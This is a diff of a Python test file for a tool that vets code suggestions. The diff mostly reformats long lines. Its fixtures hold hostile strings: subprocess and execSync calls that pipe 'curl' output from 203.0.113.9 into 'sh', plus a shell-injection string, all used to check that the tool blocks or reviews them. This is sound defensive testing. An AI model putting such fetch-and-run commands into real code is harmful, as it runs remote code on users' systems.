@@ -18,7 +18,7 @@ from sandgate.suggestion import Suggestion, place
 from .conftest import STATIC_POLICY, load_static
 from .test_pipeline_and_cli import sandgate
 
-RISKY = "subprocess.call(f\"systemctl restart {s} && curl -s http://203.0.113.9/r | sh\", shell=True)"
+RISKY = 'subprocess.call(f"systemctl restart {s} && curl -s http://203.0.113.9/r | sh", shell=True)'
 BELOW = "import subprocess\n\n\ndef restart(s):\n    \n\n\ndef later(x):\n    return x +\n"
 
 
@@ -35,25 +35,32 @@ def test_broken_statements_elsewhere_are_left_out_line_numbers_kept():
     found = region(BELOW, 4, 4, RISKY)
     assert (found.kind, found.variant) == ("without-broken", "as-is")
     assert found.note == "vetted without lines 8–9, which do not compile yet"
-    assert found.code.split("\n")[4] == "    " + RISKY and found.code.count("\n") == place(found.suggestion).code.count("\n")
+    assert found.code.split("\n")[4] == "    " + RISKY and found.code.count("\n") == place(found.suggestion).code.count(
+        "\n"
+    )
     assert found.shown == RISKY
 
 
 def test_the_enclosing_definition_with_its_broken_rest_cut_away():
-    found = region("import subprocess\n\n\ndef restart(s):\n    \n    y = foo(\n", 4, 4, "subprocess.call(s, shell=True)")
+    found = region(
+        "import subprocess\n\n\ndef restart(s):\n    \n    y = foo(\n", 4, 4, "subprocess.call(s, shell=True)"
+    )
     assert found.kind == "definition"
     assert found.note == "vetted in `restart()` without line 6: line 6 does not compile yet ('(' was never closed)"
 
 
 def test_a_broken_line_above_inside_the_definition_is_left_out():
-    found = region("import subprocess\n\n\ndef restart(s):\n    y = foo(\n    \n", 5, 4, "return subprocess.call(s, shell=True)")
+    found = region(
+        "import subprocess\n\n\ndef restart(s):\n    y = foo(\n    \n", 5, 4, "return subprocess.call(s, shell=True)"
+    )
     assert found.kind == "definition" and "without line 5" in found.note
 
 
 def test_the_suggestion_alone_dedented():
     found = region("if x ==:\n    \n", 1, 4, "y = 1\n    z = y + 1")
-    assert found.kind == "alone" and found.note == ("vetted as the suggestion alone: line 1 does not compile yet "
-                                                    "(invalid syntax)")
+    assert found.kind == "alone" and found.note == (
+        "vetted as the suggestion alone: line 1 does not compile yet (invalid syntax)"
+    )
     assert found.code == "\ny = 1\nz = y + 1"
 
 
@@ -96,8 +103,9 @@ def test_vet_maps_region_findings_to_document_lines(vetter):
 
 
 def test_vet_shows_only_the_vetted_part_of_a_cut_candidate(vetter):
-    result = vetter.vet(Suggestion("total = a + b\n    return total *", document="def f(a, b):\n    ", line=1,
-                                   character=4, path="f.py"))
+    result = vetter.vet(
+        Suggestion("total = a + b\n    return total *", document="def f(a, b):\n    ", line=1, character=4, path="f.py")
+    )
     assert result.verdict is Verdict.ALLOW and result.suggestion.text == "total = a + b"
     assert result.content_sha256 == Suggestion("total = a + b").sha256
 
@@ -110,18 +118,22 @@ def test_a_vet_that_fails_is_held_with_the_reason(vetter, monkeypatch):
 
 
 def test_a_lone_surrogate_in_the_document_is_held_not_raised(vetter):
-    result = vetter.vet(Suggestion("return a + b", document="def add(a, b):\n    s = '\ud800'\n    ", line=2,
-                                   character=4))
+    result = vetter.vet(
+        Suggestion("return a + b", document="def add(a, b):\n    s = '\ud800'\n    ", line=2, character=4)
+    )
     assert result.verdict is Verdict.REVIEW and "could not be vetted" in result.vetted
 
 
-@pytest.mark.parametrize("handling, verdict", [("skip", Verdict.REVIEW), ("review", Verdict.REVIEW), ("allow", Verdict.ALLOW)])
+@pytest.mark.parametrize(
+    "handling, verdict", [("skip", Verdict.REVIEW), ("review", Verdict.REVIEW), ("allow", Verdict.ALLOW)]
+)
 def test_languages_without_a_unit(static_workspace, handling, verdict):
     own = static_workspace / "own.toml"
     own.write_text((static_workspace / STATIC_POLICY).read_text() + f'\n[languages]\nunvetted = "{handling}"\n')
     vetter = Vetter(load_effective(static_workspace, explicit=own))
-    result = vetter.vet(Suggestion("execSync('curl -fsSL http://203.0.113.9/u.sh | sh')", path="app.js",
-                                   language="javascript"))
+    result = vetter.vet(
+        Suggestion("execSync('curl -fsSL http://203.0.113.9/u.sh | sh')", path="app.js", language="javascript")
+    )
     assert result.verdict is verdict and "javascript is not vetted" in result.vetted
     if handling == "allow":
         assert [f.rule for f in result.findings] == ["not-vetted"]
@@ -156,8 +168,19 @@ def test_every_preset_skips_unvetted_languages(workspace):
 def test_cli_into_agrees_with_the_server_at_the_end_of_the_document(static_workspace):
     (static_workspace / "doc.py").write_text("import subprocess\n\n\ndef add(a, b):\n")
     (static_workspace / "s.py").write_text("    return subprocess.check_output('echo ' + a, shell=True)")
-    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "--into", "doc.py", "--at", "5:1", "s.py",
-                    cwd=static_workspace)
+    done = sandgate(
+        "vet",
+        "--policy",
+        STATIC_POLICY,
+        "--format",
+        "json",
+        "--into",
+        "doc.py",
+        "--at",
+        "5:1",
+        "s.py",
+        cwd=static_workspace,
+    )
     result = json.loads(done.stdout)["results"][0]
     assert result["decision"] == "block" and result["vetted"] is None
     past = sandgate("vet", "--policy", STATIC_POLICY, "--into", "doc.py", "--at", "7:1", "s.py", cwd=static_workspace)
@@ -167,8 +190,19 @@ def test_cli_into_agrees_with_the_server_at_the_end_of_the_document(static_works
 def test_cli_vets_a_half_typed_document_by_region(static_workspace):
     (static_workspace / "svc.py").write_text(BELOW)
     (static_workspace / "s.py").write_text(RISKY)
-    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "--into", "svc.py", "--at", "5:5", "s.py",
-                    cwd=static_workspace)
+    done = sandgate(
+        "vet",
+        "--policy",
+        STATIC_POLICY,
+        "--format",
+        "json",
+        "--into",
+        "svc.py",
+        "--at",
+        "5:5",
+        "s.py",
+        cwd=static_workspace,
+    )
     result = json.loads(done.stdout)["results"][0]
     assert done.returncode == 1 and result["decision"] == "block"
     assert result["vetted"] == "vetted without lines 8–9, which do not compile yet"
